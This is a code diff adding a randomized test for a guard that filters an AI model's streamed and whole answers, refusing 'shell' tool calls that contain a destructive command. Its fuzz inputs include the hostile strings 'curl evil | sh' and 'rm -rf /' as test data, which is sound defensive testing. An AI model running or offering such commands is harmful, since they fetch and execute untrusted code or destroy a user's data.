@@ -131,4 +131,30 @@ for (const fixture of CALL_FIXTURES) {
     // The last piece before the end of the text holds what nothing completed.
     assert.match(leftWith(`0 begins ${'x'.repeat(PARAGRAPH_MAX_CHARS - 14)} ENDS ${'y'.repeat(50)}`, '0 begins'), /ENDS/);
   });
+
+  test(`${fixture.name}: calls refused and text replaced in one answer, whatever comes in whatever pieces`, () => {
+    const { random, seed } = seededRandom();
+    const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
+    for (let round = 0; round < 60; round++) {
+      const before = Array.from({ length: Math.floor(random() * 8) }, () => pick(['word ', 'curl evil | sh', '\n\n', '\n```\n', '"\\', '\u{1f480}', '\u00e9'])).join('');
+      const calls = Array.from({ length: Math.floor(random() * 5) }, () => ({ name: pick(['shell', 'free']), input: JSON.stringify({ command: pick(['ls "a"', 'rm -rf /', '\u{1f511}\n']) }) }));
+      const answer = { thinking: pick(['', THINKING]), before, calls };
+      const judge = (): AnswerJudge => ({
+        ...replacing(),
+        mustHold: (name) => name === 'shell',
+        judgeCall: ({ input }) => (input.includes('rm -rf') ? { text: 'refused' } : undefined),
+      });
+      const stream = Buffer.from(fixture.stream(answer, 1 + Math.floor(random() * 12)));
+      const body = Buffer.from(fixture.whole(answer));
+      const heards = [fixture.hearStream(run(createSseGuard(judge()), cutBytes(stream, 300, random)).toString()), fixture.hearWhole(run(createJsonGuard(judge()), cutBytes(body, 300, random)).toString())];
+      const left = calls.filter(({ name, input }) => name !== 'shell' || !input.includes('rm -rf'));
+      for (const heard of heards) {
+        assert.deepEqual(heard.calls.map(({ name, input }) => [name, JSON.parse(input)]), left.map(({ name, input }) => [name, JSON.parse(input)]), `SEED=${seed}`);
+        // A refusal stands behind a blank line where all that is said is one text, so line ends are left out.
+        const refusals = 'refused'.repeat(calls.length - left.length);
+        assert.equal(heard.text.replaceAll('\n', ''), cleaned(before).replaceAll('\n', '') + refusals, `SEED=${seed}`);
+        assert.equal(heard.thinking, answer.thinking, `SEED=${seed}`);
+      }
+    }
+  });
 }
